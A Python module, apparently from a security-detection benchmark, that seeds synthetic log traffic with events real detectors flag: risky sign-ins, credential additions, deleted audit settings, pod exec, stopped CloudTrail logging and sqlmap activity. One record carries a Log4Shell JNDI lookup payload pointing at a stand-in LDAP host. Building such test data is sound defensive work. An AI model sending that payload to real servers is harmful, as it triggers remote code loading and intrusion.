"""Plant records that real detectors find into the benchmark's traffic, at a chosen rate."""

from __future__ import annotations

from collections.abc import Callable
from random import Random
from typing import Any

import orjson

Record = dict[str, Any]


def _risky_sign_in(record: Record) -> None:
    properties = record["properties"]
    properties.update(riskLevelDuringSignIn="high", riskLevelAggregated="high", riskState="atRisk")
    properties["status"] = {"errorCode": 0}
    record["resultType"] = "0"


def _credential_added(record: Record) -> None:
    record["operationName"] = record["properties"]["activityDisplayName"] = (
        "Add service principal credentials"
    )
    record["properties"]["result"] = "success"
    record["resultType"] = ""


def _diagnostics_deleted(record: Record) -> None:
    record["operationName"] = "MICROSOFT.INSIGHTS/DIAGNOSTICSETTINGS/DELETE"
    record["resultType"] = record["resultSignature"] = "Success"


def _pod_exec(record: Record) -> None:
    log = orjson.loads(record["properties"]["log"])
    log["verb"] = "create"
    log["user"] = {"username": "dev@example.com", "groups": ["system:authenticated"]}
    log["objectRef"] = {"resource": "pods", "subresource": "exec", "namespace": "default", "name": "web-1"}
    log["responseStatus"] = {"code": 101}
    record["properties"]["log"] = orjson.dumps(log).decode()


def _exploit(record: Record) -> None:
    text = isinstance(record["properties"], str)
    properties = orjson.loads(record["properties"]) if text else record["properties"]
    properties["CsUriQuery"] = "q=${jndi:ldap://198.51.100.7/a}"
    record["properties"] = orjson.dumps(properties).decode() if text else properties


def _trail_stopped(record: Record) -> None:
    record["eventName"] = "StopLogging"
    record["eventSource"] = "cloudtrail.amazonaws.com"
    record.pop("errorCode", None)


def _privilege_changed(record: Record) -> None:
    record["event"] = "malicious_attack_tool:sqlmap"


PLANTS: dict[str, Callable[[Record], None]] = {
    "SignInLogs": _risky_sign_in,
    "NonInteractiveUserSignInLogs": _risky_sign_in,
    "AuditLogs": _credential_added,
    "Administrative": _diagnostics_deleted,
    "kube-audit": _pod_exec,
    "AppServiceHTTPLogs": _exploit,
    "cloudtrail": _trail_stopped,
    "application": _privilege_changed,
}


def kind_of(record: Record) -> str:
    """The kind of a record of the mix, as `PLANTS` names it."""
    if "eventSource" in record:
        return "cloudtrail"
    return str(record["category"]) if "category" in record else "application"


def plant(bodies: list[bytes], rate: float, seed: int = 1) -> list[bytes]:
    """The bodies with about `rate` of all records made to be found; spread over the kinds of `PLANTS`."""
    if not rate:
        return bodies
    rng = Random(seed)  # repeatable numbers, no secrets
    parsed = [orjson.loads(body) for body in bodies]
    all_records = [record for value in parsed for record in _records(value)]
    able = sum(kind_of(record) in PLANTS for record in all_records)
    share = rate * len(all_records) / able
    for record in all_records:
        change = PLANTS.get(kind_of(record))
        if change is not None and rng.random() < share:
            change(record)
    return [orjson.dumps(value) for value in parsed]


def _records(value: Any) -> list[Record]:
    if isinstance(value, list):
        return value
    return value.get("records") or value.get("Records") or [value]
